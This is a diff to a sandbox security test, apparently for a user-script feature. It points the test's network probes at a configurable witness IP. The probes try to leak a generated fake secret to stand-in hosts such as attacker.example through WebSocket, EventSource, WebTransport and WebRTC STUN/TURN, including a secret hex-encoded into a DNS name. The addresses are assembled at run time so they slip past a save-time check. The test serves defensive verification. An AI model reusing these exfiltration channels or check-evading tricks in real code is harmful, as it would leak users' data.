@@ -2,6 +2,7 @@
 // that remixlet code could reach, and every trick to get back the real globals. Each address is built at
 // run time (R(...)), so the save-time check lets the script through and the sandbox is what is tested.
 // Every probe records whether it threw and with what; the spec asserts the witnesses saw nothing.
+import { WITNESS_IP } from '../harness/socket-witness';
 import { PROBE_KIT } from './kit';
 
 const PRIVATE_UDP_PORT = '__PRIVATE_UDP_PORT__';
@@ -9,22 +10,22 @@ const PRIVATE_UDP_PORT = '__PRIVATE_UDP_PORT__';
 /** Fills in the port of the test's own UDP witness (harness PrivateUdpWitness). */
 export const withPrivateUdpPort = (script: string, port: number): string => script.replaceAll(PRIVATE_UDP_PORT, String(port));
 
-/** Where hostile traffic would go: witness hosts and the socket witnesses on 127.0.0.1. */
+/** Where hostile traffic would go: witness hosts and this run's socket witnesses (WITNESS_IP). */
 const TARGETS = String.raw`
 const secret = 'hunter2-' + Math.random().toString(36).slice(2, 8);
 const hex = [...secret].map((c) => c.charCodeAt(0).toString(16)).join('');
 const web = (path) => R('http://', 'attacker.example', '/hostile-', path, '?d=', secret);
 const tls = (path) => R('https://', 'leaking.via', '/hostile-', path, '?d=', secret);
-const ip = (path) => R('http://', '127.0.0.1:47474', '/hostile-', path);
+const ip = (path) => R('http://', '${WITNESS_IP}:47474', '/hostile-', path);
 // The test's own UDP witness (an ephemeral port, filled in by withPrivateUdpPort), where the WebTransport control aims too.
-const privateUdp = (path) => R('https://', '127.0.0.1:', '${PRIVATE_UDP_PORT}', '/hostile-', path);
+const privateUdp = (path) => R('https://', '${WITNESS_IP}:', '${PRIVATE_UDP_PORT}', '/hostile-', path);
 const iceServers = [
-  { urls: R('stun:', '127.0.0.1:3478') },
+  { urls: R('stun:', '${WITNESS_IP}:3478') },
   { urls: R('stun:', hex, '.attacker.example:3478') },
-  { urls: R('turn:', '127.0.0.1:3478?transport=udp'), username: secret, credential: 'x' },
-  { urls: R('turn:', '127.0.0.1:3478?transport=tcp'), username: secret, credential: 'x' },
-  { urls: R('turn:', '127.0.0.1:47474?transport=tcp'), username: secret, credential: 'x' },
-  { urls: R('turns:', '127.0.0.1:5349?transport=tcp'), username: secret, credential: 'x' },
+  { urls: R('turn:', '${WITNESS_IP}:3478?transport=udp'), username: secret, credential: 'x' },
+  { urls: R('turn:', '${WITNESS_IP}:3478?transport=tcp'), username: secret, credential: 'x' },
+  { urls: R('turn:', '${WITNESS_IP}:47474?transport=tcp'), username: secret, credential: 'x' },
+  { urls: R('turns:', '${WITNESS_IP}:5349?transport=tcp'), username: secret, credential: 'x' },
 ];
 const rtc = (PC) => { const pc = new PC({ iceServers }); pc.createDataChannel('d'); return pc.createOffer().then((o) => pc.setLocalDescription(o)); };
 `;
@@ -41,7 +42,7 @@ await probe('WebSocket ws', () => new WebSocket(R('ws://', 'attacker.example', '
 await probe('WebSocket wss', () => new WebSocket(R('wss://', 'attacker.example', '/hostile-wss?d=', secret)));
 await probe('WebSocketStream', () => new WebSocketStream(R('ws://', 'attacker.example', '/hostile-wss-stream')));
 await probe('EventSource', () => new EventSource(web('es')));
-await probe('WebTransport (QUIC to the UDP witness)', () => new WebTransport(R('https://', '127.0.0.1:47474', '/hostile-wt')));
+await probe('WebTransport (QUIC to the UDP witness)', () => new WebTransport(R('https://', '${WITNESS_IP}:47474', '/hostile-wt')));
 await probe("WebTransport (QUIC to this test's own UDP witness)", () => new WebTransport(privateUdp('wt')));
 await probe('RTCPeerConnection STUN/TURN', () => rtc(RTCPeerConnection));
 await probe('webkitRTCPeerConnection', () => rtc(webkitRTCPeerConnection));
